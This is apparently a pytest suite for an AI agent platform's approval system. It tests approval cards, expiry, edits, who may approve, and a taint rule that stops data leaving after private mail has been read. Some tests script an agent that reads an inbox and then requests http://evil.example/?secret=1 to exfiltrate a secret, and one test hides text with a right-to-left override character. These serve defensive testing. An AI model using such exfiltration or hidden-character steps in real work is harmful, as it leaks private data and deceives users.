"""Nothing that policy asks about happens without one decision of the right person about exactly that plan."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from agents.tools.undoing import SettleUndo
from agents.undo import Undo
from orchestrator.actions.approvers import approver, second_of
from orchestrator.contracts import Card, Context, Declined, Done, Outcome, Task, TaskState, ToolError
from orchestrator.execution.due_asks import DueAsks
from orchestrator.tasks import manager
from storage.database import Database
from storage.models import NotificationRow
from tests.actions.stage import Erase, Look, Mail, Stage, World, errand, unreachable
from tests.people import settle

Open = Callable[..., Stage]


async def send(task: Task, context: Context) -> Outcome:
    try:
        await context.call("mail.send", key="send", to=list(task.slots.get("to", ["dentist@example.com"])), subject="Late", body="I'm late", **_files(task))
    except ToolError as error:
        return Declined(Card(f"Not sent: {error}"), str(error))
    return Done(Card("Sent."))


def _files(task: Task) -> dict[str, Any]:
    return {"attachments": task.slots["files"]} if "files" in task.slots else {}


@pytest.fixture
def world() -> World:
    return World()


@pytest.fixture
def stage(database: Database, tmp_path: Path, world: World) -> Open:
    def make(*tools: Any, script: Any = send, **more: Any) -> Stage:
        return Stage(database, tmp_path, agents=[errand(script)], tools=tools or (Mail(world),), **more)

    return make


async def test_an_approved_letter_is_sent_once(stage: Open, world: World) -> None:
    on = stage()
    task = await on.begin()
    assert task.state is TaskState.AWAITING_APPROVAL
    card = on.cards()[-1]["text"]
    assert "A letter to dentist@example.com" in card and "I'm late" in card and "cannot be undone" in card and "NOT be done" in card
    assert on.buttons() == ["Approve", "Edit", "Decline", "Ask me later"]
    approve = on.token("Approve")
    assert await on.press("Approve") == "Approved."
    assert on.now(task).state is TaskState.COMPLETED
    assert world.texts == ["dentist@example.com: I'm late"]
    assert await on.press("", token=approve) == "This button was used already."
    assert list(world.done.values()) == [1]


async def test_a_declined_letter_is_not_sent_and_its_credits_are_free(stage: Open, world: World) -> None:
    on = stage()
    task = await on.begin()
    await on.press("Decline")
    assert on.now(task).state is TaskState.FAILED
    assert "you declined it" in on.heard()
    assert not world.done


async def test_silence_is_no(stage: Open, world: World) -> None:
    on = stage()
    task = await on.begin()
    approve = on.token("Approve")
    await on.wait(hours=12, minutes=1)
    assert "Still waiting for you" in on.cards()[-1]["text"]
    assert await on.press("", token=approve) == "This button was used already."
    approve = on.token("Approve")
    await on.wait(hours=12)
    assert "Nobody answered in time" in on.heard()
    assert on.now(task).state is TaskState.FAILED
    assert "over" in await on.press("", token=approve) or "used" in on.toasts()[-1]
    assert not world.done


async def test_a_press_after_the_expiry_counts_for_nothing(stage: Open, world: World) -> None:
    on = stage()
    task = await on.begin()
    on.clock.move(hours=25)
    assert "not done" in await on.press("Approve")
    assert on.now(task).state is TaskState.AWAITING_APPROVAL
    assert not world.done


async def test_an_edited_letter_has_a_new_card_and_the_old_buttons_are_dead(stage: Open, world: World) -> None:
    on = stage()
    await on.begin()
    old = on.token("Approve")
    await on.press("Edit")
    await on.press("Text")
    await on.say("I will be 20 minutes late")
    assert "I will be 20 minutes late" in on.cards()[-1]["text"]
    assert await on.press("", token=old) == "This button was used already."
    assert not world.done
    first, second = on.approvals()
    assert (first.state, second.state) == ("superseded", "pending") and first.digest != second.digest
    await on.press("Approve")
    assert world.texts == ["dentist@example.com: I will be 20 minutes late"]


async def test_a_new_recipient_is_typed_and_a_wrong_value_is_asked_for_again(stage: Open, world: World) -> None:
    on = stage()
    await on.begin()
    await on.press("Edit")
    await on.press("Recipient")
    await on.say("reception@example.com, dentist@example.com")
    await on.press("Approve")
    assert world.texts == ["reception@example.com,dentist@example.com: I'm late"]


@pytest.mark.parametrize("said", ["yes", "approve", "approve #1", "ja", "批准", "Go ahead"])
async def test_what_a_button_does_can_be_said(stage: Open, world: World, said: str) -> None:
    on = stage()
    await on.begin()
    await on.say(said)
    assert len(world.texts) == 1


async def test_yes_with_two_pending_asks_which(stage: Open, world: World) -> None:
    on = stage()
    await on.begin(to=["one@example.com"])
    await on.begin(to=["two@example.com"])
    answer = await on.say("yes")
    assert "Which one" in answer and "one@example.com" in answer and "two@example.com" in answer
    assert not world.done
    await on.say("approve 2")
    assert world.texts == ["two@example.com: I'm late"]
    await on.say("no")
    assert len(world.texts) == 1
    assert "one@example.com" not in "".join(world.texts)


async def test_button_b_never_approves_plan_a(stage: Open, world: World) -> None:
    on = stage()
    await on.begin(to=["a@example.com"])
    a = on.token("Approve")
    await on.begin(to=["b@example.com"])
    b = on.token("Approve")
    assert a != b
    await on.press("", token=b)
    assert world.texts == ["b@example.com: I'm late"]


async def test_somebody_else_presses_in_vain(stage: Open, world: World) -> None:
    on = stage()
    await on.begin()
    other = settle(on.database, external="other")
    assert await on.press("Approve", who=other) == "This button is not for you."
    assert "nothing waits" in (await on.say("approve", who=other)).lower() or not world.done
    assert not world.done


async def test_many_presses_at_once_one_counts(stage: Open, world: World) -> None:
    on = stage()
    task = await on.begin()
    token = on.token("Approve")
    await asyncio.gather(*(on.press("", token=token) for _ in range(32)))
    await on.pump()
    assert list(world.done.values()) == [1]
    assert on.now(task).state is TaskState.COMPLETED


async def test_a_stopped_task_s_buttons_do_nothing(stage: Open, world: World) -> None:
    on = stage()
    task = await on.begin()
    await on.database.write(lambda connection: manager.cancel(connection, on.now(task), on.clock.now()))
    await on.press("Approve")
    assert not world.done
    assert on.now(task).state is TaskState.CANCELLED


async def test_an_attachment_changed_after_the_approval_is_asked_about_again(stage: Open, world: World) -> None:
    on = stage()
    folder = on.around.folder_of(on.somebody.person.id)
    (folder / "bill.txt").write_text("10 EUR")
    await on.begin(files=["bill.txt"])
    approve = on.token("Approve")
    (folder / "bill.txt").write_text("10,000 EUR")
    await on.press("", token=approve)
    assert not world.done
    assert "has changed since you approved" in on.cards()[-1]["text"]
    await on.press("Approve")
    assert len(world.texts) == 1


async def test_hidden_characters_are_written_out_and_cuts_are_marked(stage: Open) -> None:
    async def sneaky(task: Task, context: Context) -> Outcome:
        await context.call("mail.send", key="send", to=["a@example.com"], subject="\u202egnihton", body="x" * 5000)
        return Done(Card("Sent."))

    on = stage(script=sneaky)
    await on.begin()
    card = on.cards()[-1]["text"]
    assert "\u202e" not in card and "\\u202egnihton" in card
    assert "cut here" in card and on.buttons()[0] == "Approve"


async def test_a_task_that_read_a_strangers_page_and_private_mail_asks_before_anything_leaves(stage: Open, world: World) -> None:
    async def leak(task: Task, context: Context) -> Outcome:
        await context.call("page.read", key="page", url="http://news.example/today")
        await context.call("page.read", key="mine", url="http://mail.example/inbox", private=True)
        await context.call("page.read", key="leak", url="http://evil.example/?secret=1")
        return Done(Card("Read."))

    on = stage(Look(world), script=leak)
    task = await on.begin()
    assert task.state is TaskState.AWAITING_APPROVAL
    assert "http://news.example/today" in on.cards()[-1]["text"]
    assert "read http://evil.example/?secret=1" not in world.done
    await on.press("Decline")
    assert "read http://evil.example/?secret=1" not in world.done


async def test_without_the_taint_rule_it_would_have_leaked(stage: Open, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("orchestrator.actions.taint.mark", lambda *given: None)

    async def leak(task: Task, context: Context) -> Outcome:
        await context.call("page.read", key="page", url="http://news.example/today")
        await context.call("page.read", key="mine", url="http://mail.example/inbox", private=True)
        await context.call("page.read", key="leak", url="http://evil.example/?secret=1")
        return Done(Card("Read."))

    on = stage(Look(world), script=leak)
    await on.begin()
    assert world.done["read http://evil.example/?secret=1"] == 1


async def test_an_approval_survives_a_new_process(stage: Open, world: World, tmp_path: Path) -> None:
    on = stage()
    task = await on.begin()
    token = on.token("Approve")
    again = Stage(on.database, tmp_path, agents=[errand(send)], tools=[Mail(world)], clock=on.clock, somebody=on.somebody)
    await again.press("", token=token)
    assert again.now(task).state is TaskState.COMPLETED
    assert len(world.texts) == 1


async def test_what_may_not_be_known_is_tried_again_later(stage: Open, world: World) -> None:
    world.trouble = lambda moment: unreachable(moment) if moment == "before" else None
    on = stage()
    task = await on.begin()
    await on.press("Approve")
    assert on.now(task).state is TaskState.PENDING
    world.trouble = None
    await on.wait(seconds=3)
    assert on.now(task).state is TaskState.COMPLETED
    assert list(world.done.values()) == [1]


async def test_a_reversible_change_is_reported_with_undo(database: Database, tmp_path: Path, world: World) -> None:
    async def erase(task: Task, context: Context) -> Outcome:
        await context.call("note.erase", key="erase", name="milk")
        return Done(Card("Erased."))

    tools = [Erase(world), Erase(world, name="note.bring_back", back=""), SettleUndo()]
    on = Stage(database, tmp_path, agents=[errand(erase), Undo()], tools=tools)
    await on.begin()
    assert on.buttons() == ["Undo: erasing milk"]
    await on.press("Undo")
    assert world.done["note.bring_back milk"] == 1
    assert "Undone: erasing milk" in on.heard()


async def test_a_guests_letter_is_decided_by_the_owner_in_the_owners_chat(database: Database, tmp_path: Path, world: World) -> None:
    owner = settle(database)
    guest = settle(database, role="guest", external="guest")
    on = Stage(database, tmp_path, agents=[errand(send)], tools=[Mail(world)], somebody=guest)
    on.rules = replace(on.rules, approver=approver)
    on.dispatcher.rules = on.rules
    task = await on.begin()
    assert task.state is TaskState.AWAITING_APPROVAL
    assert "Asked for guest" in on.cards(owner)[-1]["text"] and not any("A letter" in card["text"] for card in on.cards(guest))
    token = on.token("Approve")
    assert await on.press("", token=token, who=guest) == "This button is not for you."
    assert not world.done
    await on.press("", token=token, who=owner)
    assert len(world.texts) == 1


async def test_after_a_while_a_second_person_may_decide(database: Database, tmp_path: Path, world: World) -> None:
    first, second = settle(database), settle(database, external="second", channel="telegram")
    policy = {"approvals": {"second_after_minutes": 30, "second_approver": "telegram:second"}}
    on = Stage(database, tmp_path, agents=[errand(send)], tools=[Mail(world)], somebody=first, policy=policy)
    on.rules = replace(on.rules, second=second_of("telegram:second"))
    on.dispatcher.rules = on.rules
    await on.begin()
    await on.wait(minutes=29)
    assert on.cards(second) == []
    await on.wait(minutes=2)
    assert "Nobody has decided yet" in on.cards(second)[-1]["text"]
    told = sa.select(NotificationRow.title).where(NotificationRow.person_id == second.person.id)
    assert len(database.read_now(lambda connection: connection.execute(told).all())) == 1
    await on.wait(minutes=1)
    restarted = DueAsks(on.runner)
    assert database.write_now(restarted.sweep) == 0 and len(on.cards(second)) == 1
    await on.press("Approve", who=second)
    assert len(world.texts) == 1


async def test_mail_to_ones_own_address_needs_no_approval_but_others_do(database: Database, tmp_path: Path, world: World) -> None:
    policy = {"addresses": {"web:local": ["Me@example.com"]}}
    on = Stage(database, tmp_path, agents=[errand(send)], tools=[Mail(world)], policy=policy)
    assert (await on.begin(to=["me@example.com"])).state is TaskState.COMPLETED
    assert (await on.begin(to=["me@example.com", "other@example.com"])).state is TaskState.AWAITING_APPROVAL
    assert len(world.texts) == 1


async def test_what_goes_to_the_houses_own_servers_does_not_leave_it(stage: Open, world: World) -> None:
    async def look(task: Task, context: Context) -> Outcome:
        await context.call("page.read", key="page", url="http://news.example/today")
        await context.call("page.read", key="mine", url="http://mail.example/inbox", private=True)
        await context.call("page.read", key="calendar", url="http://calendar.house/day")
        return Done(Card("Read."))

    on = stage(Look(world), script=look)
    on.rules = replace(on.rules, house_hosts=frozenset({"calendar.house"}))
    on.dispatcher.rules = on.rules
    assert (await on.begin()).state is TaskState.COMPLETED
